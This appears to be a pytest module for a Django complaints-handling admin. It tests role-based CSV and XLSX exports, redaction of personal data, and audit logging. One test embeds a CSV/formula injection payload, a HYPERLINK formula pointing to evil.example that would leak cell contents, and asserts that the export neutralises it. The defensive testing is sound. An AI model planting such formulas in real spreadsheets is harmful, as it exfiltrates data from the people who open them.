"""Exports from the admin changelists: who gets which columns, what is logged, what is refused."""

from __future__ import annotations

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from complaints.models import Case, Complaint, PiiAccessLog
from complaints.services import case_transition
from notices.services import letter_draft_for_cases
from reports.datasets import COMPLAINTS
from reports.models import ExportJob, ExportLog
from tests.factories import complaint_create

from .conftest import body_of, csv_rows, xlsx_formula_cells, xlsx_sheets

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:complaints_complaint_changelist"
PUBLIC_HEADERS = [c.header for c in COMPLAINTS.columns if not c.pii]
PII_HEADERS = ["Full name", "CNIC", "Mobile", "Email", "Account handle", "Narrative"]


def _export(client, action: str, complaints: list[Complaint], query: str = ""):
    return client.post(
        reverse(CHANGELIST) + query,
        {"action": action, ACTION_CHECKBOX_NAME: [c.pk for c in complaints]},
    )


def test_analyst_exports_complaints_without_any_pii_column_and_the_export_is_logged(omar, staff_client, x_platform):
    complaints = [complaint_create(full_name="Farah Qureshi", cnic="3520212345672") for _ in range(3)]
    response = _export(staff_client(omar), "reports_export_selected_csv", complaints)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="complaints-')
    data = body_of(response)
    rows = csv_rows(data)
    assert rows[0] == PUBLIC_HEADERS
    assert not set(PII_HEADERS) & set(rows[0])
    assert len(rows) == 4
    assert {row[0] for row in rows[1:]} == {c.reference for c in complaints}
    assert rows[1][PUBLIC_HEADERS.index("Platform")] == "X (Twitter)"
    assert rows[1][PUBLIC_HEADERS.index("Action type")] == "Account suspended"
    assert b"Farah" not in data and b"35202" not in data and b"KashmirVoice" not in data
    log = ExportLog.objects.get()
    assert (log.user, log.dataset, log.format, log.row_count, log.with_pii) == (omar, "complaints", "csv", 3, False)
    assert log.filters == {"selected": ["3"]}
    assert not PiiAccessLog.objects.filter(action=PiiAccessLog.Action.EXPORT).exists()


def test_supervisor_exports_complaints_with_pii_in_clear_and_a_pii_access_row(sana, staff_client, x_platform):
    complaint = complaint_create(full_name="Farah Qureshi", cnic="3520212345672", mobile="+923001234567")
    response = _export(staff_client(sana), "reports_export_selected_xlsx", [complaint])

    assert response.status_code == 200
    sheets = xlsx_sheets(body_of(response))
    assert list(sheets) == ["Data", "Dictionary"]
    header, row = sheets["Data"]
    assert list(header) == PUBLIC_HEADERS + PII_HEADERS
    values = dict(zip(header, row, strict=True))
    assert values["Full name"] == "Farah Qureshi"
    assert values["CNIC"] == "35202-1234567-2"
    # A leading + is a formula trigger too: the mobile number keeps its apostrophe, as any such cell does.
    assert values["Mobile"] == "'+923001234567"
    assert values["Reference"] == complaint.reference
    # The dictionary defines every column, and says which hold PII.
    assert [line[0] for line in sheets["Dictionary"][1:]] == header
    assert all(line[1] for line in sheets["Dictionary"][1:])
    log = ExportLog.objects.get()
    assert log.with_pii and log.user == sana
    access = PiiAccessLog.objects.get(action=PiiAccessLog.Action.EXPORT)
    assert access.user == sana and access.detail == {"export": log.pk, "dataset": "complaints", "rows": 1}


def test_caseworker_is_offered_no_export_and_cannot_post_one(ayesha, staff_client, x_platform):
    complaint = complaint_create()
    client = staff_client(ayesha)
    page = client.get(reverse(CHANGELIST))
    assert page.status_code == 200
    assert b"reports_export" not in page.content

    response = _export(client, "reports_export_selected_csv", [complaint])
    assert not response.get("Content-Disposition")
    assert not ExportLog.objects.exists()


def test_export_all_that_match_the_filters_ignores_which_rows_were_ticked(
    omar, staff_client, x_platform, facebook_platform
):
    on_x = [complaint_create(account_handle=f"voice{i}") for i in range(3)]
    on_facebook = complaint_create(platform=facebook_platform, account_handle="someone")
    response = _export(
        staff_client(omar), "reports_export_all_csv", [on_x[0]], query=f"?platform__id__exact={x_platform.pk}"
    )

    rows = csv_rows(body_of(response))
    assert {row[0] for row in rows[1:]} == {c.reference for c in on_x}
    assert on_facebook.reference not in {row[0] for row in rows[1:]}
    assert ExportLog.objects.get().filters == {"platform__id__exact": [str(x_platform.pk)]}


def test_a_cnic_searched_for_is_not_copied_into_the_export_log(omar, staff_client, x_platform):
    complaint = complaint_create(cnic="3520212345672")
    _export(staff_client(omar), "reports_export_all_csv", [complaint], query="?q=35202-1234567-2")
    assert ExportLog.objects.get().filters == {"q": ["(a CNIC or mobile number)"]}


def test_formulas_typed_by_a_citizen_are_inert_in_csv_and_xlsx(sana, staff_client, x_platform):
    complaint = complaint_create(
        full_name='=HYPERLINK("http://evil.example/?"&A2,"Click")',
        narrative="+92 300 1234567 called me",
        email="@evil.example",
    )
    client = staff_client(sana)
    rows = csv_rows(body_of(_export(client, "reports_export_selected_csv", [complaint])))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["Full name"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Click")'
    assert cells["Narrative"] == "'+92 300 1234567 called me"

    data = body_of(_export(client, "reports_export_selected_xlsx", [complaint]))
    assert xlsx_formula_cells(data) == []
    header, row = xlsx_sheets(data)["Data"]
    cells = dict(zip(header, row, strict=True))
    assert cells["Full name"].startswith("'=HYPERLINK")
    assert cells["Narrative"].startswith("'+92")


def test_supervisor_exports_the_pii_access_log_and_an_analyst_cannot_reach_it(sana, omar, staff_client, x_platform):
    complaint = complaint_create()
    entry = PiiAccessLog.objects.create(user=sana, complaint=complaint, action=PiiAccessLog.Action.REVEAL)
    url = reverse("admin:complaints_piiaccesslog_changelist")
    response = staff_client(sana).post(url, {"action": "reports_export_selected_csv", ACTION_CHECKBOX_NAME: [entry.pk]})
    rows = csv_rows(body_of(response))
    assert rows[0] == ["At", "User", "Action", "Complaint", "Export"]
    assert rows[1][1:4] == ["sana", "Revealed in the admin", complaint.reference]

    refused = staff_client(omar).post(url, {"action": "reports_export_selected_csv", ACTION_CHECKBOX_NAME: [entry.pk]})
    assert refused.status_code == 403
    assert ExportLog.objects.filter(user=omar).count() == 0


def test_an_export_over_the_streaming_limit_becomes_a_job_published_after_commit(
    omar, staff_client, x_platform, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_STREAM_MAX_ROWS = 2
    complaints = [complaint_create(account_handle=f"voice{i}") for i in range(3)]
    with django_capture_on_commit_callbacks() as callbacks:
        response = _export(staff_client(omar), "reports_export_selected_xlsx", complaints)

    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:reports_exportjob_progress", args=[job.pk])
    assert (job.status, job.rows_total, job.log.via) == ("QUEUED", 3, "JOB")
    assert len(callbacks) == 1


def test_the_export_log_is_read_only_for_supervisors_and_hidden_from_analysts(sana, omar, staff_client):
    url = reverse("admin:reports_exportlog_changelist")
    assert staff_client(sana).get(url).status_code == 200
    assert staff_client(omar).get(url).status_code == 403
    assert staff_client(sana).get(reverse("admin:reports_exportlog_add")).status_code == 403


def test_the_data_dictionary_of_a_csv_export_defines_every_column_the_user_gets(omar, staff_client):
    response = staff_client(omar).get(reverse("admin:reports_exportjob_dictionary", args=["complaints"]))
    rows = csv_rows(response.content)
    assert rows[0] == ["Column", "Definition", "PII"]
    assert [row[0] for row in rows[1:]] == PUBLIC_HEADERS
    assert staff_client(omar).get(reverse("admin:reports_exportjob_dictionary", args=["nope"])).status_code == 404


@pytest.mark.parametrize(
    ("changelist", "headers"),
    [
        ("admin:complaints_case_changelist", ["Reference", "Date opened", "Platform", "Status"]),
        ("admin:notices_letter_changelist", ["Reference", "Letter type", "Platform", "Status"]),
    ],
)
def test_analyst_exports_everything_matching_on_the_case_and_letter_changelists(
    omar, sana, zara, staff_client, x_platform, changelist, headers
):
    complaint = complaint_create()
    case_transition(case=complaint.case, to=Case.Status.IN_REVIEW, actor=sana)
    letter_draft_for_cases(cases=Case.objects.all(), actor=zara)
    client = staff_client(omar)
    assert b"reports_export_all_xlsx" in client.get(reverse(changelist)).content

    rows = xlsx_sheets(
        body_of(client.post(reverse(changelist), {"action": "reports_export_all_xlsx", ACTION_CHECKBOX_NAME: ["1"]}))
    )["Data"]
    assert list(rows[0][:4]) == headers and len(rows) == 2
    assert "Account handle" not in rows[0]
